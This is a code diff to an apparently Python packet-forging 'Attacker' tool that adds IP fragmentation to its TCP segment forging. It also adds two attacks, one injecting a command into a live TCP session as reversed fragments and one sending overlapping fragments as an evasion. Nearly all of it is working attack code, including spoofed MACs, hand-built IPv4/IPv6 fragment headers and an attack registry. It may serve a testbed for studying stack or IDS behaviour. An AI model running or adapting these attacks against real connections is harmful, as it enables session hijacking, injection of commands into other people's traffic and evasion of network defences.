@@ -165,8 +165,10 @@ class Attacker:
 
     # ------------------------------------------------------------------ forging
     def forge(self, frm, flags, seq, ack, payload=b"", ttl=None, ts=True, win=None,
-              spoof_mac=True, note=""):
-        """Send one TCP segment as endpoint `frm` ('c' or 's') to the other one."""
+              spoof_mac=True, note="", frags=None):
+        """Send one TCP segment as endpoint `frm` ('c' or 's') to the other one. frags:
+        send it as IP fragments instead, a list of (offset, length, bytes or None) over
+        the TCP segment (None: the segment's own bytes there; see fragments())."""
         a, b = (self.c, self.s) if frm == "c" else (self.s, self.c)
         hops = ttl if ttl is not None else a.ttl
         if ":" in a.ip:
@@ -182,6 +184,16 @@ class Attacker:
         pkt = Ether(src=a.mac if spoof_mac and a.mac else self.own_mac, dst=b.mac) / ip / tcp
         if payload:
             pkt = pkt / Raw(payload)
+        if frags:
+            for fr in fragments(bytes(pkt), frags, self.rng.getrandbits(32)):
+                self.sock.send(fr)
+                time.sleep(0.002)
+            self.injected += 1
+            emit(ev="inject", dir="c2s" if frm == "c" else "s2c", flags=str(flags),
+                 seq=seq & 0xFFFFFFFF, ack=ack & 0xFFFFFFFF, len=len(payload), ttl=hops,
+                 ts=bool(opts), data=payload[:40].decode("latin-1"), note=note,
+                 fragments=[[o, n, b is not None] for o, n, b in frags])
+            return
         self.send(bytes(pkt), "c2s" if frm == "c" else "s2c", flags, seq, ack, len(payload),
                   hops, bool(opts), payload, note)
 
@@ -211,6 +223,48 @@ class Attacker:
         return [("MSS", 1460 if ":" not in self.s.ip else 1440), ("SAckOK", b""),
                 ("Timestamp", (self.rng.getrandbits(32), self.c.tsval or 0)), ("NOP", None),
                 ("WScale", 7)]
+
+
+def _csum(b):
+    if len(b) % 2:
+        b += b"\0"
+    s = sum(int.from_bytes(b[i:i + 2], "big") for i in range(0, len(b), 2))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return (~s) & 0xFFFF
+
+
+def fragments(frame, spec, ident):
+    """IP fragments of an Ethernet frame holding one IPv4 (no options) or IPv6 (no
+    extension headers) packet: for each (offset, length, bytes) of spec, a fragment
+    carrying the L4 bytes [offset, offset+length) — or `bytes` instead (an overlap
+    with other data). MF is set unless the fragment reaches the end. IPv4: DF cleared,
+    identification = ident & 0xffff; IPv6: a fragment header with identification ident."""
+    eth, ip = frame[:14], frame[14:]
+    out = []
+    if ip[0] >> 4 == 4:
+        l4 = ip[20:]
+        for off, n, rep in spec:
+            data = rep if rep is not None else l4[off:off + n]
+            mf = off + n < len(l4)
+            h = bytearray(ip[:20])
+            h[2:4] = (20 + len(data)).to_bytes(2, "big")
+            h[4:6] = (ident & 0xFFFF).to_bytes(2, "big")
+            h[6:8] = ((0x2000 if mf else 0) | off // 8).to_bytes(2, "big")
+            h[10:12] = b"\0\0"
+            h[10:12] = _csum(bytes(h)).to_bytes(2, "big")
+            out.append(eth + bytes(h) + data)
+    else:
+        l4 = ip[40:]
+        for off, n, rep in spec:
+            data = rep if rep is not None else l4[off:off + n]
+            mf = off + n < len(l4)
+            h = bytearray(ip[:40])
+            h[4:6] = (8 + len(data)).to_bytes(2, "big")
+            h[6] = 44
+            fh = bytes([ip[6], 0]) + (off | (1 if mf else 0)).to_bytes(2, "big") + ident.to_bytes(4, "big")
+            out.append(eth + bytes(h) + fh + data)
+    return out
 
 
 # ---------------------------------------------------------------------- attacks
@@ -249,6 +303,37 @@ def a_inject_data(at):
     number, acknowledging everything the server sent."""
     if _after_exchange(at, at.args.after):
         at.forge("c", "PA", at.c.nxt, at.s.nxt, line(at.args.payload), note="injected command")
+
+
+def _injected(at):
+    """The command to inject as the client, the TCP header length forge() gives it
+    (timestamps or not) and the segment's length."""
+    data = line(at.args.payload)
+    hl = 32 if at.c.tsval is not None else 20
+    return data, hl, hl + len(data)
+
+
+def a_inject_data_frag(at):
+    """The classic hijack, the injected segment sent as IP fragments of 24 bytes (the
+    first splits the TCP header from its options), in reverse order."""
+    if _after_exchange(at, at.args.after):
+        data, hl, total = _injected(at)
+        spec = [(o, min(24, total - o), None) for o in range(0, total, 24)]
+        at.forge("c", "PA", at.c.nxt, at.s.nxt, data, note="injected command, fragmented",
+                 frags=list(reversed(spec)))
+
+
+def a_frag_overlap(at):
+    """An injected command in two fragments, and between them a third that overlaps
+    the end of the first and the start of the second with other bytes (the classic
+    evasion: which version the receiver keeps is its policy; Linux drops the whole
+    datagram, so the command never reaches the server)."""
+    if _after_exchange(at, at.args.after):
+        data, hl, total = _injected(at)
+        cut = (hl + 8) // 8 * 8
+        other = b"X" * 16
+        spec = [(0, cut, None), (cut - 8, len(other), other), (cut, total - cut, None)]
+        at.forge("c", "PA", at.c.nxt, at.s.nxt, data, note="overlapping fragments", frags=spec)
 
 
 def a_race_response(at):
@@ -354,6 +439,7 @@ def a_takeover(at):
 
 
 ATTACKS = {"rst_blind": a_rst_blind, "rst_exact": a_rst_exact, "inject_data": a_inject_data,
+           "inject_data_frag": a_inject_data_frag, "frag_overlap": a_frag_overlap,
            "race_response": a_race_response, "synack_race": a_synack_race,
            "early_desync": a_early_desync, "inject_fin": a_inject_fin, "spray": a_spray,
            "ttl_inject": a_ttl_inject, "ack_ahead": a_ack_ahead, "syn_established": a_syn_established,
